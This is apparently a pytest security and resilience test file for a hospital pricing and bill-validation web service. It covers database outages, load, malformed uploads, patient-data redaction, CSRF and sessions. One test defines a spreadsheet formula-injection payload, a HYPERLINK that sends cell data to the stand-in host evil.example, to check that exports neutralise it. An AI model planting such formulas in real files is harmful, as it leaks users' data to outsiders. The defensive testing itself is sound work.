"""The service under attack and under strain: a stuck database never stops it, every bad input is
a 4xx that stores nothing and echoes no patient data, sessions and forms resist forgery."""

from __future__ import annotations

import io
import re
import threading
import time

import httpx
import pytest
from openpyxl import Workbook

from tests.conftest import PG_URL, bearer, make_key, running_app
from tests.test_resilience import TcpProxy
from tests.test_tables_api import HEADER, HIP, counts, csv_bytes, upload
from tests.validators.builders import bill_data, line

# --- a database that accepts connections and then never answers ---------------------------


@pytest.mark.skipif(not PG_URL, reason="PRICING_TEST_DATABASE_URL not set")
def test_a_silent_database_costs_its_requests_a_503_while_liveness_keeps_answering(database_url, backend):
    if backend != "postgresql":
        pytest.skip("the silent database is staged on PostgreSQL")
    from sqlalchemy.engine import make_url

    from tests.conftest import live_server_for

    url = make_url(database_url)
    proxy = TcpProxy(url.host or "127.0.0.1", url.port or 5432)
    through_proxy = url.set(host="127.0.0.1", port=proxy.port).render_as_string(hide_password=False)
    try:
        with live_server_for(through_proxy, db_timeout_seconds=1, readiness_timeout_seconds=1) as (app, base):
            admin = bearer(make_key(app, "admin"))
            never_seen = bearer(make_key(app, "auditor"))
            with httpx.Client(base_url=base, timeout=30) as http:
                assert http.get("/v1/notices", headers=admin).status_code == 200
                proxy.silence()
                answers: dict[str, httpx.Response] = {}
                # A key this worker has not seen yet must be looked up: before the fix that
                # look-up ran on the event loop and froze the whole worker.
                waiting = threading.Thread(target=lambda: answers.update(
                    key=http.get("/v1/items/33150700500", headers=never_seen)))
                waiting.start()
                time.sleep(0.2)
                assert httpx.get(f"{base}/healthz", timeout=0.5).status_code == 200
                ready = http.get("/readyz")
                assert ready.status_code == 503 and "数据库不可用" in ready.json()["detail"]
                notices = http.get("/v1/notices", headers=admin)
                assert notices.status_code == 503 and notices.json()["message"] == "数据库暂时不可用，请稍后重试"
                # Prices are served from the worker's snapshot while the database is silent.
                assert http.get("/v1/items/33150700500", headers=admin).status_code == 200
                waiting.join(timeout=10)
                assert answers["key"].status_code == 503
                proxy.unsilence()
                deadline = time.monotonic() + 20
                while http.get("/readyz").status_code != 200:
                    assert time.monotonic() < deadline, "did not recover"
                    time.sleep(0.2)
                assert http.get("/v1/items/33150700500", headers=never_seen).status_code == 200
    finally:
        proxy.close()


def test_liveness_answers_while_large_bills_keep_every_worker_thread_busy(tmp_path):
    from tests.conftest import live_server_for

    big = httpx.Request("POST", "/", json=bill_data(*(line("31060200800", 10, line_id=str(i)) for i in range(1000)))).content
    with live_server_for(f"sqlite:///{tmp_path / 'load.sqlite3'}") as (app, base):
        headers = {**bearer(make_key(app, "his")), "content-type": "application/json"}
        with httpx.Client(base_url=base, timeout=120, limits=httpx.Limits(max_connections=200)) as http:
            def send() -> None:
                http.post("/v1/bills/validate", content=big, headers=headers)

            load = [threading.Thread(target=send) for _ in range(120)]
            for thread in load:
                thread.start()
            time.sleep(0.3)
            live = httpx.get(f"{base}/healthz", timeout=2)
            still_loaded = sum(t.is_alive() for t in load)
            for thread in load:
                thread.join()
    assert live.status_code == 200
    assert still_loaded > 0, "the load finished before liveness was asked: the test proved nothing"


# --- bad input: a 422 naming the field, nothing stored -----------------------------------


@pytest.mark.parametrize("bad_price", ["1e308", "123456789012345678901234567890.12", "99999999999999999999",
                                       "10000000.01", "NaN", "-5"])
def test_an_impossible_price_is_refused_and_nothing_is_stored(client, bad_price):
    before = counts(client)
    body = upload(client, csv_bytes(f"33150700500,人工全髋关节置换术,,,次,{bad_price},4400,4000,"), status=422)
    field = body["fields"][0]["field"]
    assert field.startswith("file") and ("第2行" in field or "第 2 行" in body["message"])
    assert counts(client) == before


@pytest.mark.parametrize(("row", "where"), [
    ("3" * 200 + ",超长编码,,,次,4800,4400,4000,", "项目编码"),
    ("33150700500,人工全髋关节\x00置换术,,,次,4800,4400,4000,", "项目名称"),
    ("33150700500," + "名" * 201 + ",,,次,4800,4400,4000,", "项目名称"),
])
def test_a_cell_the_database_could_not_hold_is_refused_before_it_gets_there(client, row, where):
    before = counts(client)
    body = upload(client, csv_bytes(row, encoding="utf-8"), status=422)
    assert where in body["message"]
    assert counts(client) == before


def test_a_nul_byte_in_a_form_field_is_refused(client):
    before = counts(client)
    body = upload(client, csv_bytes(HIP), document="衢医保联发〔2024〕\x001号", status=422)
    assert body["fields"][0]["field"] == "document" and "控制字符" in body["fields"][0]["reason"]
    assert counts(client) == before


def test_a_csv_that_starts_as_utf8_and_goes_on_in_gb18030_is_a_422(client):
    data = "\ufeff".encode() + (HEADER + "\n").encode("utf-8") + (HIP + "\n").encode("utf-8") \
        + "33150790100,人工关节翻修术,,,次,6700,6200,5600,\n".encode("gb18030")
    before = counts(client)
    body = upload(client, data, status=422)
    assert body["fields"][0]["field"] == "file" and "BOM" in body["fields"][0]["reason"]
    assert counts(client) == before


def _xlsx(rows: list[list], dimension: str | None = None) -> bytes:
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    data = buffer.getvalue()
    if dimension is None:
        return data
    import zipfile

    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                content = re.sub(rb'<dimension ref="[^"]*" ?/>', f'<dimension ref="{dimension}"/>'.encode(), content)
            target.writestr(item, content)
    return out.getvalue()


def test_an_xlsx_that_says_it_has_a_million_rows_is_refused_without_reading_them(client):
    header = HEADER.split(",")
    data = _xlsx([header, HIP.split(",")], dimension="A1:I1000001")
    body = upload(client, data, name="big.xlsx", status=422)
    assert "1000001" in body["message"] and "50000" in body["message"]


def test_rows_past_the_limit_stop_the_read_at_the_first_one(database_url):
    with running_app(database_url, max_upload_rows=3) as client:
        rows = [f"3315079{i:04d},测试项目{i},,,次,100,90,80," for i in range(10)]
        body = upload(client, csv_bytes(*rows), status=422)
        assert "超过上限 3 行" in body["message"] and "第 5 行" in body["message"]


def test_an_xlsx_holding_megabytes_in_a_name_is_refused(client):
    header = HEADER.split(",")
    data = _xlsx([header, ["33150700500", "名" * 2_000_000, "", "", "次", 4800, 4400, 4000, ""]])
    assert len(data) < 200_000
    before = counts(client)
    body = upload(client, data, name="wide.xlsx", status=422)
    assert "项目名称" in body["message"] and "超过上限 200" in body["message"]
    assert counts(client) == before


def test_a_lone_surrogate_in_a_bill_is_a_422_not_a_crash(shared_client):
    raw = httpx.Request("POST", "/", json=bill_data(line("31060200800", 10, name="PLACEHOLDER"))).content
    raw = raw.replace(b"PLACEHOLDER", b"\\ud800")
    response = shared_client.post("/v1/bills/validate", content=raw, headers={"content-type": "application/json"})
    assert response.status_code == 422 and response.json()["fields"][0]["field"] == "body"


def test_a_misspelled_field_is_named_with_the_closest_known_one(shared_client):
    bill = bill_data(line("31060200800", 10, amout="99"))
    response = shared_client.post("/v1/bills/validate", json=bill)
    assert response.status_code == 422
    [problem] = response.json()["fields"]
    assert problem["field"] == "lines.0.amout" and "amount" in problem["reason"]


def test_errors_never_echo_patient_data(shared_client):
    bill = bill_data(line("31060200800", 10))
    bill["patient"] = {"birth_date": "1960-13-45", "sex": "F", "patn_name": "张三丰", "certno": "330802196001011234"}
    response = shared_client.post("/v1/bills/validate", json=bill)
    assert response.status_code == 422
    text = response.text
    assert "张三丰" not in text and "330802196001011234" not in text and "1960-13-45" not in text
    assert {f["field"] for f in response.json()["fields"]} >= {"patient.birth_date", "patient.patn_name"}


@pytest.mark.parametrize("path", ["/v1/audit-log?offset=9223372036854775808", "/v1/items?offset=9223372036854775808",
                                  "/v1/audit-log?limit=99999999999999999999"])
def test_an_integer_parameter_out_of_range_is_a_422(shared_client, path):
    response = shared_client.get(path)
    assert response.status_code == 422 and response.json()["fields"]


def test_a_key_name_with_a_nul_byte_is_refused(shared_client):
    response = shared_client.post("/v1/keys", json={"role": "his", "name": "医院\x00HIS"})
    assert response.status_code == 422 and response.json()["fields"][0]["field"] == "name"


# --- exports never carry a formula -------------------------------------------------------


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_a_name_that_looks_like_a_formula_is_exported_as_text_and_uploads_back_unchanged(client):
    draft = upload(client, csv_bytes(f'33150799900,"{FORMULA.replace(chr(34), chr(34) * 2)}",,,次,4800,4400,4000,',
                                     encoding="utf-8"))
    csv_text = client.get(f"/v1/tables/{draft['id']}/export?format=csv").content.decode("utf-8-sig")
    assert f"'{FORMULA}".replace('"', '""') in csv_text
    xlsx = client.get(f"/v1/tables/{draft['id']}/export?format=xlsx").content
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(xlsx)).active
    headers = [c.value for c in sheet[1]]
    first = list(sheet.iter_rows(min_row=2))[0]
    name_cell, price_cell = first[headers.index("项目名称")], first[headers.index("三甲")]
    assert name_cell.data_type == "s" and name_cell.value == "'" + FORMULA
    assert price_cell.data_type == "n" and price_cell.value == 4800 and price_cell.number_format == "0.00"
    again = upload(client, xlsx, document="衢医保联发〔2024〕2号", name="again.xlsx")
    exported = client.get(f"/v1/tables/{again['id']}/export?format=csv").content.decode("utf-8-sig")
    assert exported.splitlines()[1:] == csv_text.splitlines()[1:]


# --- sessions, forms, headers ------------------------------------------------------------


def _sign_in(client, key: str) -> str:
    response = client.post("/ui/login", data={"key": key, "next": "/ui/tables"}, follow_redirects=False)
    assert response.status_code == 303
    return response.cookies["pricing_session"]


def _page_client(client):
    """A client like a browser: no Authorization header, only what the pages set."""
    from fastapi.testclient import TestClient

    return TestClient(client.app, base_url="http://testserver")


def test_the_session_cookie_is_not_the_key_and_dies_on_sign_out_even_when_copied(client):
    browser = _page_client(client)
    key = make_key(client.app, "auditor")
    token = _sign_in(browser, key)
    assert key not in token
    copied = {"pricing_session": token}
    assert browser.get("/ui/items", cookies=copied, follow_redirects=False).status_code == 200
    page = browser.get("/ui/items", cookies=copied)
    csrf = page.text.split('name="csrf_token" value="')[1].split('"')[0]
    assert browser.post("/ui/logout", data={"csrf_token": csrf}, cookies=copied, follow_redirects=False).status_code == 303
    after = browser.get("/ui/items", cookies=copied, follow_redirects=False)
    assert after.status_code == 303 and after.headers["location"].startswith("/ui/login")


def test_revoking_the_key_ends_its_sessions(client):
    browser = _page_client(client)
    created = client.post("/v1/keys", json={"role": "auditor", "name": "会话测试"}).json()
    copied = {"pricing_session": _sign_in(browser, created["key"])}
    assert browser.get("/ui/items", cookies=copied, follow_redirects=False).status_code == 200
    client.post(f"/v1/keys/{created['id']}/revoke")
    assert browser.get("/ui/items", cookies=copied, follow_redirects=False).status_code == 303


def test_a_form_post_without_its_csrf_token_or_from_another_site_changes_nothing(client):
    draft = upload(client, csv_bytes(HIP))
    browser = _page_client(client)
    cookies = {"pricing_session": _sign_in(browser, make_key(client.app, "pricing"))}
    page = browser.get(f"/ui/tables/{draft['id']}", cookies=cookies)
    csrf = page.text.split('name="csrf_token" value="')[1].split('"')[0]
    forged = browser.post(f"/ui/tables/{draft['id']}/publish", cookies=cookies, follow_redirects=False)
    assert forged.status_code == 403 and "CSRF" in forged.text
    elsewhere = browser.post(f"/ui/tables/{draft['id']}/publish", data={"csrf_token": csrf}, cookies=cookies,
                             headers={"origin": "http://localhost:9999"}, follow_redirects=False)
    assert elsewhere.status_code == 403
    assert client.get(f"/v1/tables/{draft['id']}").json()["state"] == "draft"
    genuine = browser.post(f"/ui/tables/{draft['id']}/publish", data={"csrf_token": csrf}, cookies=cookies,
                           headers={"origin": "http://testserver"}, follow_redirects=False)
    assert genuine.status_code == 303
    assert client.get(f"/v1/tables/{draft['id']}").json()["state"] == "published"


def test_the_pages_cookie_may_read_the_api_but_not_write_it(client):
    draft = upload(client, csv_bytes(HIP))
    browser = _page_client(client)
    cookies = {"pricing_session": _sign_in(browser, make_key(client.app, "pricing"))}
    assert browser.get("/v1/items/33150700500", cookies=cookies).status_code == 200
    assert browser.post("/v1/bills/validate", json=bill_data(line("31060200800", 10)), cookies=cookies).status_code == 200
    refused = browser.post(f"/v1/tables/{draft['id']}/publish", cookies=cookies)
    assert refused.status_code == 403 and "Authorization" in refused.json()["message"]
    assert client.get(f"/v1/tables/{draft['id']}").json()["state"] == "draft"


def test_answers_carry_the_security_headers(shared_client):
    open_answer = httpx.Client(transport=shared_client._transport, base_url="http://testserver").get("/healthz")
    assert open_answer.headers["x-content-type-options"] == "nosniff"
    assert open_answer.headers["referrer-policy"] == "same-origin"
    assert "cache-control" not in open_answer.headers
    private = shared_client.get("/v1/notices")
    assert private.headers["cache-control"] == "no-store" and private.headers["x-content-type-options"] == "nosniff"
